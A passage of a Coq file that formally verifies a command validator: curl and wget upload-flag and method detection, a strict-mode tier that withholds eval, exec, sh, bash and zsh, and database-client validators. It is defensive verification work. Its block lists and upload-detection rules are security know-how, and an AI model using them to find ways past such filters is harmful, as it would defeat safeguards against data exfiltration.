Definition wget_next (tokens : list string) (i : nat) (token : string) : nat :=
  i + (if String.eqb token "--method"
       then match tokens !! (i + 1) with Some _ => 1 | None => 0 end
       else 0)
    + (if bool_decide (token ∈ wget_skip_flags) then 1 else 0) + 1.

(** The positions the wget loop reads when it starts at position [i]. *)
Inductive wget_reads_from (tokens : list string) (i : nat) : nat → Prop :=
| wget_reads_start : wget_reads_from tokens i i
| wget_reads_on j token :
    wget_reads_from tokens i j →
    tokens !! j = Some token →
    wget_reads_from tokens i (wget_next tokens j token).

(** The state of the wget loop is sound when a recorded method comes with a
    recorded upload flag. *)
Definition wget_state_sound (st : scan) : Prop :=
  (has_upload_data st = true
   ∧ ∃ flag, upload_flag_found st = Some flag ∧ flag ∈ WGET_UPLOAD_FLAGS)
  ∨ (has_upload_data st = false ∧ explicit_method st = None
     ∧ upload_flag_found st = None).

(** No character of [s] is one of [chars]. *)
Definition lacks (chars s : string) : bool :=
  PyStr.forallb (λ c, negb (PyStr.contains c chars)) s.

(** The characters that end or restructure a network location, and the
    three bytes [urlsplit] removes. *)
Definition netloc_breaks : string :=
  "/?#[]" +:+ String Shlex.TAB (String Shlex.CR (String Shlex.LF "")).

(** What follows the network location: nothing, or a path, a query or a
    fragment. *)
Definition ends_netloc (rest : string) : bool :=
  match rest with
  | EmptyString => true
  | String c _ => PyStr.contains c "/?#"
  end.

(** A character that is neither a quote nor the backslash. *)
Definition unquoted (c : ascii) : bool :=
  negb (Shlex.quotes c) && negb (Shlex.escape c).

(** A word: not empty, and without whitespace. *)
Definition is_word (token : string) : bool :=
  PyStr.nonempty token && PyStr.forallb (λ c, negb (Shlex.whitespace c)) token.

(** The tokens written one after the other. *)
Definition joined (tokens : list string) : string :=
  foldr String.append "" tokens.

(** ** [urllib.parse.quote(string, safe)] *)

Module UrlQuote.

(** [_ALWAYS_SAFE]: ASCII letters, digits and [_.-~]. *)
Definition always_safe (c : ascii) : bool :=
  PyStr.is_alpha c || PyStr.is_digit c || PyStr.contains c "_.-~".

(** One digit of [{:02X}]. *)
Definition hex_digit (n : nat) : ascii :=
  default "0"%char (String.get n "0123456789ABCDEF").

(** ['%{:02X}'.format(b)]. *)
Definition percent (c : ascii) : string :=
  String "%" (String (hex_digit (nat_of_ascii c / 16))
               (String (hex_digit (nat_of_ascii c mod 16)) "")).

(** [_Quoter.__missing__]: a byte that is always safe, or an ASCII byte of
    [safe], stands for itself; any other byte is written in hexadecimal. *)
Definition quoter (safe : string) (c : ascii) : string :=
  if always_safe c || (Nat.ltb (nat_of_ascii c) 128 && PyStr.contains c safe)
  then String c "" else percent c.

(** [''.join([quoter(char) for char in bs])] on the UTF-8 bytes. *)
Fixpoint quote (s safe : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => quoter safe c +:+ quote s' safe
  end.

End UrlQuote.

(** ** [runners/gitlab/glab_client.py] *)

Module GlabClient.

Record GitLabConfig := {
  token : string;
  project : string;
  instance_url : string;
}.

(** [urllib.parse.quote(project, safe="")]. *)
Definition encode_project_path (project : string) : string :=
  UrlQuote.quote project "".

(** [s.rstrip(chars)], the character class given as a predicate. *)
Fixpoint rstrip (p : ascii → bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      let r := rstrip p s' in
      if negb (PyStr.nonempty r) && p c then EmptyString else String c r
  end.

(** [GitLabClient._api_url]. *)
Definition _api_url (config : GitLabConfig) (endpoint : string) : string :=
  let base := rstrip (Ascii.eqb "/") (instance_url config) in
  let endpoint :=
    if negb (PyStr.startswith "/" endpoint) then "/" +:+ endpoint
    else endpoint in
  base +:+ "/api/v4" +:+ endpoint.

End GlabClient.

(** The last character of a string, if any. *)
Fixpoint last_char (s : string) : option ascii :=
  match s with
  | EmptyString => None
  | String c EmptyString => Some c
  | String _ s' => last_char s'
  end.

(** * Properties *)

(** Closed goals about finite sets, maps and strings are settled by
    evaluating their decision procedure. *)
Ltac by_evaluation :=
  match goal with
  | |- ?P => apply (bool_decide_unpack P); vm_compute; exact I
  end.

(** ** Mode resolver and classifier *)

Section Classifier.
Context `{PyText}.

Lemma lower_of_default_absent :
  str_lower (default "" (None : option string)) = "".
Proof. simpl. by rewrite str_lower_ascii. Qed.

(** C8. [is_strict_mode] answers true exactly when the environment holds a
    value under the key SECURITY_STRICT_MODE whose lower-case form is one
    of true, 1, yes; it answers false exactly when the key is absent or
    holds a value whose lower-case form is none of the three. *)
Theorem is_strict_mode_truthy (environ : gmap string string) :
  (Base.is_strict_mode environ = true ↔
     ∃ v, environ !! "SECURITY_STRICT_MODE" = Some v
          ∧ (str_lower v = "true" ∨ str_lower v = "1" ∨ str_lower v = "yes"))
  ∧ (Base.is_strict_mode environ = false ↔
     ∀ v, environ !! "SECURITY_STRICT_MODE" = Some v →
          str_lower v ≠ "true" ∧ str_lower v ≠ "1" ∧ str_lower v ≠ "yes").
Proof.
  unfold Base.is_strict_mode, Base.SECURITY_STRICT_MODE.
  destruct (environ !! "SECURITY_STRICT_MODE") as [v|] eqn:Hv.
  - simpl. rewrite bool_decide_eq_true, bool_decide_eq_false.
    rewrite !elem_of_cons, elem_of_nil. split.
    + split.
      * intros Hm. exists v. split; [done | tauto].
      * intros (w & Hw & Hm). injection Hw as <-. tauto.
    + split.
      * intros Hn w Hw. injection Hw as <-. tauto.
      * intros Hn. specialize (Hn v eq_refl). tauto.
  - rewrite lower_of_default_absent. split.
    + split; [intros Hm; by vm_compute in Hm | intros (w & Hw & _); done].
    + split; [intros _ w Hw; done | intros _; by vm_compute].
Qed.

(** No dangerous command is also listed as safe or as a network command. *)
Lemma dangerous_apart_from_safe_and_network :
  Base.DANGEROUS_COMMANDS ## Base.SAFE_COMMANDS ∪ Base.NETWORK_COMMANDS.
Proof. by_evaluation. Qed.

(** C6. Each of eval, exec, sh, bash, zsh is missing from the base
    commands of an environment in strict mode and present in those of an
    environment in normal mode. *)
Theorem dangerous_commands_by_mode (strict normal : gmap string string)
    (c : string) :
  c ∈ Base.DANGEROUS_COMMANDS →
  Base.is_strict_mode strict = true →
  Base.is_strict_mode normal = false →
  (c ∉ Base.get_base_commands strict) ∧ (c ∈ Base.get_base_commands normal).
Proof.
  intros Hc Hs Hn. unfold Base.get_base_commands. rewrite Hs, Hn. split.
  - intros Hin.
    exact (proj1 (elem_of_disjoint _ _) dangerous_apart_from_safe_and_network c Hc Hin).
  - apply elem_of_union_l, elem_of_union_r, Hc.
Qed.

(** The dangerous tier is the five names the claim lists. *)
Lemma dangerous_commands_listed (c : string) :
  c ∈ Base.DANGEROUS_COMMANDS ↔
  c = "eval" ∨ c = "exec" ∨ c = "sh" ∨ c = "bash" ∨ c = "zsh".
Proof.
  unfold Base.DANGEROUS_COMMANDS.
  rewrite !elem_of_union, !elem_of_singleton. tauto.
Qed.

(** C5, as the code has it. Whatever the mode, every key of the
    validated-command map of the classifier is a base command of that mode.
    The table of validator functions of the registry has, in either mode,
    exactly ten keys that are not base commands of the mode: the start
    script and the database clients; every other key of it is a base
    command of the mode. *)
Theorem validated_commands_are_base_commands
    `{ValidatorRegistry.Collaborators} (environ : gmap string string) :
  dom (Base.get_validated_commands environ) ⊆ Base.get_base_commands environ
  ∧ dom (ValidatorRegistry.get_validators environ)
      ∖ Base.get_base_commands environ
    = {[ "init.sh"; "dropdb"; "dropuser"; "psql"; "mysql"; "mariadb";
         "mysqladmin"; "redis-cli"; "mongosh"; "mongo" ]}.
Proof.
  unfold Base.get_validated_commands, ValidatorRegistry.get_validators,
    Base.get_base_commands.
  destruct (Base.is_strict_mode environ).
  - split; [by_evaluation |].
    rewrite dom_union_L.
    unfold ValidatorRegistry._STRICT_VALIDATORS,
      ValidatorRegistry._BASE_VALIDATORS.
    rewrite !dom_list_to_map_L. simpl. by_evaluation.
  - split; [by_evaluation |].
    unfold ValidatorRegistry._BASE_VALIDATORS.
    rewrite dom_list_to_map_L. simpl. by_evaluation.
Qed.

(** The two strict-only keys are not keys of the base maps. *)
Lemma strict_keys_fresh_in_base :
  Base._STRICT_VALIDATORS ##ₘ Base._BASE_VALIDATORS.
Proof.
  apply map_disjoint_dom. by_evaluation.
Qed.

Lemma strict_keys_fresh_in_registry `{ValidatorRegistry.Collaborators} :
  ValidatorRegistry._STRICT_VALIDATORS ##ₘ ValidatorRegistry._BASE_VALIDATORS.
Proof.
  apply map_disjoint_dom.
  unfold ValidatorRegistry._STRICT_VALIDATORS, ValidatorRegistry._BASE_VALIDATORS.
  rewrite !dom_list_to_map_L. simpl. by_evaluation.
Qed.

(** A union with a disjoint map that has curl as a key is a strict
    extension, entry by entry. *)
Lemma disjoint_union_extends {V} (extra base : gmap string V) :
  extra ##ₘ base → is_Some (extra !! "curl") →
  base ⊂ extra ∪ base
  ∧ (∀ k v, base !! k = Some v → (extra ∪ base) !! k = Some v)
  ∧ dom (extra ∪ base) ∖ dom base = dom extra.
Proof.
  intros Hdisj [v Hv]. split; [|split].
  - split; [by apply map_union_subseteq_r |].
    intros Hsub. rewrite map_subseteq_spec in Hsub.
    assert (base !! "curl" = Some v) as Hb.
    { apply Hsub. by apply lookup_union_Some_l. }
    by rewrite (map_disjoint_Some_l _ _ _ _ Hdisj Hv) in Hb.
  - intros k w Hk. by apply lookup_union_Some_r.
  - rewrite dom_union_L. apply map_disjoint_dom in Hdisj.
    rewrite elem_of_disjoint in Hdisj.
    apply set_eq. intros k. rewrite elem_of_difference, elem_of_union.
    split; [tauto |]. intros Hk. split; [by left |].
    intros Hb. exact (Hdisj k Hk Hb).
Qed.

(** C7. In strict mode the validated-command map, and likewise the table
    of validator functions, strictly extends the one of normal mode: every
    entry of normal mode is there with the same value, and the keys gained
    are exactly curl and wget. *)
Theorem strict_validated_commands_extend_normal
    `{ValidatorRegistry.Collaborators} (strict normal : gmap string string) :
  Base.is_strict_mode strict = true →
  Base.is_strict_mode normal = false →
  (Base.get_validated_commands normal ⊂ Base.get_validated_commands strict
   ∧ (∀ k v, Base.get_validated_commands normal !! k = Some v →
             Base.get_validated_commands strict !! k = Some v)
   ∧ dom (Base.get_validated_commands strict)
       ∖ dom (Base.get_validated_commands normal) = {[ "curl"; "wget" ]})
  ∧ (ValidatorRegistry.get_validators normal
       ⊂ ValidatorRegistry.get_validators strict
     ∧ (∀ k v, ValidatorRegistry.get_validators normal !! k = Some v →
               ValidatorRegistry.get_validators strict !! k = Some v)
     ∧ dom (ValidatorRegistry.get_validators strict)
         ∖ dom (ValidatorRegistry.get_validators normal) = {[ "curl"; "wget" ]}).
Proof.
  intros Hs Hn.
  unfold Base.get_validated_commands, ValidatorRegistry.get_validators.
  rewrite Hs, Hn. split.
  - destruct (disjoint_union_extends _ _ strict_keys_fresh_in_base)
      as (Hsub & Hsame & Hdom); [by eexists |].
    split; [done | split; [done |]]. rewrite Hdom. by_evaluation.
  - destruct (disjoint_union_extends _ _ strict_keys_fresh_in_registry)
      as (Hsub & Hsame & Hdom); [by eexists |].
    split; [done | split; [done |]]. rewrite Hdom.
    unfold ValidatorRegistry._STRICT_VALIDATORS.
    rewrite dom_list_to_map_L. simpl. by_evaluation.
Qed.

End Classifier.

(** ** The scanning loops run to completion *)

Section Loops.
Context `{PyText}.

Lemma curl_body_advances (tokens : list string) (i : nat) token st :
  (i < (curl_body tokens i token st).1)%nat.
Proof.
  unfold curl_body.
  destruct (bool_decide (token ∈ ["-X"; "--request"]));
    [destruct (tokens !! (i + 1)) |];
    destruct (PyStr.startswith "-" token && bool_decide (token ∈ curl_skip_flags));
    simpl; lia.
Qed.

Lemma wget_body_advances (tokens : list string) (i : nat) token st :
  (i < (wget_body tokens i token st).1)%nat.
Proof.
  unfold wget_body.
  destruct (String.eqb token "--method");
    [destruct (tokens !! (i + 1))
    | destruct (PyStr.startswith "--method=" token)];
    destruct (PyStr.startswith "-" token && bool_decide (token ∈ wget_skip_flags));
    simpl; lia.
Qed.

(** With as many turns allowed as there are tokens left, [curl_scan] is the
    loop: it stops because the index left the list. *)
Lemma curl_scan_is_loop (fuel : nat) (tokens : list string) (i : nat) st :
  (length tokens - i ≤ fuel)%nat →
  while_loop curl_body tokens i st (curl_scan fuel tokens i st).
Proof.
  revert i st. induction fuel as [|fuel IH]; intros i st Hfuel; simpl.
  - apply while_exit. apply lookup_ge_None. lia.
  - destruct (tokens !! i) as [token|] eqn:Hi; [|by apply while_exit].
    pose proof (curl_body_advances tokens i token st) as Hadv.
    destruct (curl_body tokens i token st) as [i' st'] eqn:Hbody.
    eapply while_turn; [done | done |]. apply IH. simpl in Hadv. lia.
Qed.

Lemma wget_scan_is_loop (fuel : nat) (tokens : list string) (i : nat) st :
  (length tokens - i ≤ fuel)%nat →
  while_loop wget_body tokens i st (wget_scan fuel tokens i st).
Proof.
  revert i st. induction fuel as [|fuel IH]; intros i st Hfuel; simpl.
  - apply while_exit. apply lookup_ge_None. lia.
  - destruct (tokens !! i) as [token|] eqn:Hi; [|by apply while_exit].
    pose proof (wget_body_advances tokens i token st) as Hadv.
    destruct (wget_body tokens i token st) as [i' st'] eqn:Hbody.
    eapply while_turn; [done | done |]. apply IH. simpl in Hadv. lia.
Qed.

(** The loop relation is a function of its start. *)
Lemma while_loop_deterministic body tokens i st final1 final2 :
  while_loop body tokens i st final1 →
  while_loop body tokens i st final2 →
  final1 = final2.
Proof.
  intros H1. revert final2.
  induction H1 as [i st Hi | i token st i' st' final Hi Hbody _ IH];
    intros final2 H2; inversion H2; subst; try congruence.
  apply IH. congruence.
Qed.

End Loops.

(** ** Unparsable commands *)

Section ParseFailure.
Context `{PyText}.

(** Inside single quotes the lexer stays inside them until the closing
    quote; running out of input there is the error. *)
Lemma unclosed_single_quote (body : string) quoted escapedstate token :
  PyStr.contains Shlex.SQUOTE body = false →
  Shlex.read_tokens body Shlex.SQUOTE quoted escapedstate token = None.
Proof.
  revert quoted token.
  induction body as [|c body IH]; intros quoted token Hc; [reflexivity |].
  cbn [PyStr.contains] in Hc.
  destruct (Ascii.eqb Shlex.SQUOTE c) eqn:Hq; [done |].
  cbn [Shlex.read_tokens].
  replace (Ascii.eqb Shlex.SQUOTE " ") with false by reflexivity.
  replace (Shlex.quotes Shlex.SQUOTE) with true by reflexivity.
  rewrite Ascii.eqb_sym, Hq.
  replace (Shlex.escapedquotes Shlex.SQUOTE) with false by reflexivity.
  rewrite andb_false_r. by apply IH.
Qed.

(** A command whose first character opens a single quote that is never
    closed does not tokenize. *)
Lemma split_unclosed_single_quote (body : string) :
  PyStr.contains Shlex.SQUOTE body = false →
  Shlex.split (String Shlex.SQUOTE body) = None.
Proof. intros Hc. by apply unclosed_single_quote. Qed.

(** C9, as the code words it. When [shlex.split] raises, the curl
    validator returns [(False, "Could not parse curl command")] and the
    wget validator [(False, "Could not parse wget command")]; both are
    total functions into results, so nothing is raised and an unparsable
    command is never accepted. *)
Theorem unparsable_command_rejected (command_string : string) :
  Shlex.split command_string = None →
  validate_curl_command command_string = (false, "Could not parse curl command")
  ∧ validate_wget_command command_string = (false, "Could not parse wget command").
Proof.
  intros Hsplit. unfold validate_curl_command, validate_wget_command.
  by rewrite Hsplit.
Qed.

End ParseFailure.

(** ** What the curl loop reads and records *)

Section CurlScan.
Context `{PyText}.

Lemma skip_flags_start_with_dash (token : string) :
  token ∈ curl_skip_flags → PyStr.startswith "-" token = true.
Proof.
  intros Hin. apply list_elem_of_In in Hin.
  revert token Hin. apply List.forallb_forall. by vm_compute.
Qed.

(** One turn of the loop, index and state apart. *)
Lemma curl_body_spec (tokens : list string) (i : nat) (token : string) (st : scan) :
  curl_body tokens i token st =
  (curl_next tokens i token,
   match curl_method_arg tokens i token with
   | Some m => set_method (str_upper m) (check_upload CURL_UPLOAD_FLAGS token st)
   | None => check_upload CURL_UPLOAD_FLAGS token st
   end).
Proof.
  unfold curl_body, curl_next, curl_method_arg.
  destruct (bool_decide (token ∈ ["-X"; "--request"]));
    [destruct (tokens !! (i + 1)) |];
    (destruct (bool_decide (token ∈ curl_skip_flags)) eqn:Hskip;
     [apply bool_decide_eq_true in Hskip;
      rewrite (skip_flags_start_with_dash token Hskip)
     | rewrite andb_false_r]);
    simpl; f_equal; lia.
Qed.

Lemma curl_next_advances (tokens : list string) (i : nat) (token : string) :
  (i < curl_next tokens i token)%nat.
Proof. unfold curl_next. lia. Qed.

Lemma reads_from_ge (tokens : list string) (i k : nat) :
  curl_reads_from tokens i k → (i ≤ k)%nat.
Proof.
  induction 1 as [|j token _ IH _]; [lia |].
  pose proof (curl_next_advances tokens j token). lia.
Qed.

Lemma reads_from_trans (tokens : list string) (i j k : nat) :
  curl_reads_from tokens i j → curl_reads_from tokens j k →
  curl_reads_from tokens i k.
Proof.
  intros Hij Hjk. induction Hjk as [|k token _ IH Hk]; [done |].
  by eapply reads_on.
Qed.

Lemma reads_from_step (tokens : list string) (i k : nat) (token : string) :
  tokens !! i = Some token →
  curl_reads_from tokens (curl_next tokens i token) k →
  curl_reads_from tokens i k.
Proof.
  intros Hi. apply reads_from_trans. eapply reads_on; [apply reads_start | done].
Qed.

Lemma reads_from_cases (tokens : list string) (i k : nat) :
  curl_reads_from tokens i k →
  k = i ∨ ∃ token, tokens !! i = Some token
                   ∧ curl_reads_from tokens (curl_next tokens i token) k.
Proof.
  induction 1 as [|j token Hij IH Hj]; [by left |]. right.
  destruct IH as [-> | (t & Hi & Hreach)].
  - exists token. split; [done | apply reads_start].
  - exists t. split; [done |]. by eapply reads_on.
Qed.

(** The positions read from one start form a chain. *)
Lemma reads_from_chain (tokens : list string) (a i j : nat) :
  curl_reads_from tokens a i → curl_reads_from tokens a j →
  curl_reads_from tokens i j ∨ curl_reads_from tokens j i.
Proof.
  intros Hi Hj. induction Hi as [|i token Hai IH Htok]; [by left |].
  destruct IH as [Hij | Hji].
  - destruct (reads_from_cases _ _ _ Hij) as [-> | (t & Ht & Hreach)].
    + right. eapply reads_on; [apply reads_start | done].
    + left. congruence.
  - right. by eapply reads_on.
Qed.


Lemma set_method_upload_fields (m : string) (st : scan) :
  has_upload_data (set_method m st) = has_upload_data st
  ∧ upload_flag_found (set_method m st) = upload_flag_found st.
Proof. by destruct st. Qed.

(** The part of the state a turn of the loop writes. *)
Lemma check_upload_fields (token : string) (st : scan) :
  match curl_upload_flag token with
  | Some flag =>
      has_upload_data (check_upload CURL_UPLOAD_FLAGS token st) = true
      ∧ upload_flag_found (check_upload CURL_UPLOAD_FLAGS token st) = Some flag
  | None => check_upload CURL_UPLOAD_FLAGS token st = st
  end.
Proof.
  unfold check_upload, curl_upload_flag.
  by destruct (List.find (flag_matches token) CURL_UPLOAD_FLAGS).
Qed.

Lemma check_upload_keeps_method flags (token : string) (st : scan) :
  explicit_method (check_upload flags token st) = explicit_method st.
Proof.
  unfold check_upload. by destruct (List.find (flag_matches token) flags).
Qed.

Lemma no_upload_from_cons (tokens : list string) (i : nat) (token : string) :
  tokens !! i = Some token →
  curl_upload_flag token = None →
  no_upload_from tokens (curl_next tokens i token) →
  no_upload_from tokens i.
Proof.
  intros Hi Hnone Hrest k t Hreach Hk.
  destruct (reads_from_cases _ _ _ Hreach) as [-> | (t' & Ht' & Hreach')].
  - congruence.
  - replace t' with token in * by congruence. by eapply Hrest.
Qed.

Lemma no_method_from_cons (tokens : list string) (i : nat) (token : string) :
  tokens !! i = Some token →
  curl_method_arg tokens i token = None →
  no_method_from tokens (curl_next tokens i token) →
  no_method_from tokens i.
Proof.
  intros Hi Hnone Hrest k t Hreach Hk.
  destruct (reads_from_cases _ _ _ Hreach) as [-> | (t' & Ht' & Hreach')].
  - congruence.
  - replace t' with token in * by congruence. by eapply Hrest.
Qed.

(** What the loop leaves in [has_upload_data] and [upload_flag_found]:
    the values it started with when it read no upload flag, and otherwise
    the flag of the last upload token it read. *)
Lemma curl_scan_upload (tokens : list string) (fuel i : nat) (st : scan) :
  (length tokens - i ≤ fuel)%nat →
  (no_upload_from tokens i
   ∧ has_upload_data (curl_scan fuel tokens i st) = has_upload_data st
   ∧ upload_flag_found (curl_scan fuel tokens i st) = upload_flag_found st)
  ∨ (∃ j token flag,
       curl_reads_from tokens i j ∧ tokens !! j = Some token
       ∧ curl_upload_flag token = Some flag
       ∧ no_upload_from tokens (curl_next tokens j token)
       ∧ has_upload_data (curl_scan fuel tokens i st) = true
       ∧ upload_flag_found (curl_scan fuel tokens i st) = Some flag).
Proof.
  revert i st. induction fuel as [|fuel IH]; intros i st Hfuel.
  - left. split; [|done]. intros k t Hreach Hk.
    apply reads_from_ge in Hreach. apply lookup_lt_Some in Hk. lia.
  - simpl. destruct (tokens !! i) as [token|] eqn:Hi.
    2:{ left. split; [|done]. intros k t Hreach Hk.
        apply reads_from_ge in Hreach. apply lookup_lt_Some in Hk.
        apply lookup_ge_None in Hi. lia. }
    rewrite curl_body_spec.
    pose proof (curl_next_advances tokens i token) as Hadv.
    pose proof (check_upload_fields token st) as Hcheck.
    set (st1 := match curl_method_arg tokens i token with
                | Some m => set_method (str_upper m)
                              (check_upload CURL_UPLOAD_FLAGS token st)
                | None => check_upload CURL_UPLOAD_FLAGS token st
                end).
    assert (has_upload_data st1 = has_upload_data (check_upload CURL_UPLOAD_FLAGS token st)
            ∧ upload_flag_found st1 = upload_flag_found (check_upload CURL_UPLOAD_FLAGS token st))
      as [Hhas Hflag].
    { unfold st1. destruct (curl_method_arg tokens i token);
        [apply set_method_upload_fields | split; reflexivity]. }
    destruct (IH (curl_next tokens i token) st1) as
      [(Hquiet & Hh & Hf) | (j & t & flag & Hreach & Hj & Hup & Hquiet & Hh & Hf)];
      [lia | |].
    + rewrite Hh, Hf, Hhas, Hflag.
      destruct (curl_upload_flag token) as [flag|] eqn:Hup.
      * right. exists i, token, flag. destruct Hcheck as [Hc1 Hc2].
        split_and!; try done. apply reads_start.
      * left. rewrite Hcheck. split; [|done]. by eapply no_upload_from_cons.
    + right. exists j, t, flag. split_and!; try done.
      by eapply reads_from_step.
Qed.

(** What the loop leaves in [explicit_method]: the value it started with
    when it read no method option with a successor, and otherwise the
    upper-cased successor of the last such option it read. *)
Lemma curl_scan_method (tokens : list string) (fuel i : nat) (st : scan) :
  (length tokens - i ≤ fuel)%nat →
  (no_method_from tokens i
   ∧ explicit_method (curl_scan fuel tokens i st) = explicit_method st)
  ∨ (∃ j token m,
       curl_reads_from tokens i j ∧ tokens !! j = Some token
       ∧ curl_method_arg tokens j token = Some m
       ∧ no_method_from tokens (curl_next tokens j token)
       ∧ explicit_method (curl_scan fuel tokens i st) = Some (str_upper m)).
Proof.
  revert i st. induction fuel as [|fuel IH]; intros i st Hfuel.
  - left. split; [|done]. intros k t Hreach Hk.
    apply reads_from_ge in Hreach. apply lookup_lt_Some in Hk. lia.
  - simpl. destruct (tokens !! i) as [token|] eqn:Hi.
    2:{ left. split; [|done]. intros k t Hreach Hk.
        apply reads_from_ge in Hreach. apply lookup_lt_Some in Hk.
        apply lookup_ge_None in Hi. lia. }
    rewrite curl_body_spec.
    pose proof (curl_next_advances tokens i token) as Hadv.
    destruct (curl_method_arg tokens i token) as [m|] eqn:Hm.
    + destruct (IH (curl_next tokens i token)
                  (set_method (str_upper m) (check_upload CURL_UPLOAD_FLAGS token st)))
        as [(Hquiet & He) | (j & t & m' & Hreach & Hj & Hm' & Hquiet & He)];
        [lia | |]; right.
      * exists i, token, m. split_and!; try done. apply reads_start.
      * exists j, t, m'. split_and!; try done. by eapply reads_from_step.
    + destruct (IH (curl_next tokens i token)
                  (check_upload CURL_UPLOAD_FLAGS token st))
        as [(Hquiet & He) | (j & t & m' & Hreach & Hj & Hm' & Hquiet & He)];
        [lia | |].
      * left. rewrite He, check_upload_keeps_method. split; [|done].
        by eapply no_method_from_cons.
      * right. exists j, t, m'. split_and!; try done.
        by eapply reads_from_step.
Qed.


(** Past tokenization and the test of the command name, each validator is
    the shared decision applied to its URL and to the outcome of its loop. *)
Lemma validate_curl_on_tokens (command_string : string) (tokens : list string) :
  Shlex.split command_string = Some tokens →
  head tokens = Some "curl" →
  validate_curl_command command_string =
  decide_upload "curl with '" "curl "
    (_extract_url_from_tokens tokens curl_skip_flags)
    (curl_scan (length tokens) tokens 1 scan_init).
Proof.
  intros Hsplit Hhead. unfold validate_curl_command.
  by rewrite Hsplit, bool_decide_eq_true_2.
Qed.

Lemma validate_wget_on_tokens (command_string : string) (tokens : list string) :
  Shlex.split command_string = Some tokens →
  head tokens = Some "wget" →
  validate_wget_command command_string =
  decide_upload "wget with '" "wget --method="
    (wget_url tokens) (wget_scan (length tokens) tokens 1 scan_init).
Proof.
  intros Hsplit Hhead. unfold validate_wget_command.
  by rewrite Hsplit, bool_decide_eq_true_2.
Qed.

(** Two prefixes of one string: one of them begins the other. *)
Lemma prefixes_of_one_string (a b t : string) :
  String.prefix a t = true → String.prefix b t = true →
  String.prefix a b = true ∨ String.prefix b a = true.
Proof.
  revert a b. induction t as [|c t IH]; intros a b Ha Hb.
  - destruct a; [|by simpl in Ha]. destruct b; [by left | by simpl in Hb].
  - destruct a as [|ca a]; [destruct b; by left |].
    destruct b as [|cb b]; [by right |].
    simpl in *.
    destruct (ascii_dec ca c) as [->|]; [|done].
    destruct (ascii_dec cb c) as [->|]; [|done].
    destruct (ascii_dec c c); [|done]. by apply IH.
Qed.

Lemma upload_flags_prefix_free : prefix_free CURL_UPLOAD_FLAGS = true.
Proof. by vm_compute. Qed.

(** A token matches at most one upload flag, so the order in which the
    set of flags is walked does not show in the flag recorded. *)
Lemma upload_flag_unique (token f1 f2 : string) :
  f1 ∈ CURL_UPLOAD_FLAGS → f2 ∈ CURL_UPLOAD_FLAGS →
  flag_matches token f1 = true → flag_matches token f2 = true →
  f1 = f2.
Proof.
  intros Hf1 Hf2 Hm1 Hm2.
  apply list_elem_of_In in Hf1, Hf2.
  pose proof upload_flags_prefix_free as Hfree. unfold prefix_free in Hfree.
  rewrite List.forallb_forall in Hfree.
  pose proof (Hfree f1 Hf1) as H12. pose proof (Hfree f2 Hf2) as H21.
  rewrite List.forallb_forall in H12, H21.
  specialize (H12 f2 Hf2). specialize (H21 f1 Hf1).
  apply andb_true_iff in H12 as [H12 N12], H21 as [H21 N21].
  apply negb_true_iff in N12, N21.
  unfold flag_matches, PyStr.startswith in Hm1, Hm2.
  apply orb_true_iff in Hm1 as [E1 | P1], Hm2 as [E2 | P2].
  - apply String.eqb_eq in E1, E2. congruence.
  - apply String.eqb_eq in E1. subst token. congruence.
  - apply String.eqb_eq in E2. subst token. congruence.
  - destruct (prefixes_of_one_string _ _ _ P1 P2) as [P | P].
    + rewrite P in H12. by apply String.eqb_eq in H12.
    + rewrite P in H21. apply String.eqb_eq in H21. congruence.
Qed.

Lemma curl_upload_flag_Some (token flag : string) :
  curl_upload_flag token = Some flag ↔
  flag ∈ CURL_UPLOAD_FLAGS ∧ flag_matches token flag = true.
Proof.
  unfold curl_upload_flag. split.
  - intros Hfind. apply List.find_some in Hfind as [Hin Hm].
    split; [|done]. by apply list_elem_of_In.
  - intros [Hin Hm].
    destruct (List.find (flag_matches token) CURL_UPLOAD_FLAGS)
      as [f|] eqn:Hfind.
    + apply List.find_some in Hfind as [Hin' Hm'].
      apply list_elem_of_In in Hin'.
      f_equal. by eapply upload_flag_unique.
    + apply list_elem_of_In in Hin.
      pose proof (List.find_none _ _ Hfind flag Hin). congruence.
Qed.

(** Walking the upload flags in any other order records the same flag. *)
Lemma upload_flag_order_immaterial (flags : list string) (token : string) :
  flags ≡ₚ CURL_UPLOAD_FLAGS →
  List.find (flag_matches token) flags = curl_upload_flag token.
Proof.
  intros Hperm.
  destruct (List.find (flag_matches token) flags) as [f|] eqn:Hfind.
  - apply List.find_some in Hfind as [Hin Hm].
    apply list_elem_of_In in Hin. rewrite Hperm in Hin.
    symmetry. by apply curl_upload_flag_Some.
  - destruct (curl_upload_flag token) as [f|] eqn:Hcurl; [|reflexivity].
    apply curl_upload_flag_Some in Hcurl as [Hin Hm].
    rewrite <- Hperm in Hin. apply list_elem_of_In in Hin.
    pose proof (List.find_none _ _ Hfind f Hin). congruence.
Qed.

(** The flag loop of the URL search asks whether some flag matches, which
    no reordering of the flags changes. *)
Lemma takes_next_order_immaterial (flags skip_flags : list string)
    (token : string) :
  flags ≡ₚ skip_flags →
  takes_next flags token = takes_next skip_flags token.
Proof.
  intros Hperm. unfold takes_next.
  destruct (List.find (flag_matches token) flags) as [f|] eqn:Hf;
    destruct (List.find (flag_matches token) skip_flags) as [g|] eqn:Hg;
    try reflexivity.
  - apply List.find_some in Hf as [Hin Hm].
    apply list_elem_of_In in Hin. rewrite Hperm in Hin.
    apply list_elem_of_In in Hin.
    pose proof (List.find_none _ _ Hg f Hin). congruence.
  - apply List.find_some in Hg as [Hin Hm].
    apply list_elem_of_In in Hin. rewrite <- Hperm in Hin.
    apply list_elem_of_In in Hin.
    pose proof (List.find_none _ _ Hf g Hin). congruence.
Qed.

Lemma upload_flags_nonempty (flag : string) :
  flag ∈ CURL_UPLOAD_FLAGS → PyStr.nonempty flag = true.
Proof.
  intros Hin. apply list_elem_of_In in Hin.
  revert flag Hin. apply List.forallb_forall. by vm_compute.
Qed.

(** The last position read at which something happens is unique. *)
Lemma last_read_unique (P : nat → Prop) (tokens : list string) (a i j : nat)
    (ti tj : string) :
  curl_reads_from tokens a i → tokens !! i = Some ti → P i →
  (∀ k, curl_reads_from tokens (curl_next tokens i ti) k → ¬ P k) →
  curl_reads_from tokens a j → tokens !! j = Some tj → P j →
  (∀ k, curl_reads_from tokens (curl_next tokens j tj) k → ¬ P k) →
  i = j.
Proof.
  intros Hi Hti Pi Li Hj Htj Pj Lj.
  destruct (reads_from_chain _ _ _ _ Hi Hj) as [Hij | Hji].
  - destruct (reads_from_cases _ _ _ Hij) as [-> | (t & Ht & Hreach)]; [done |].
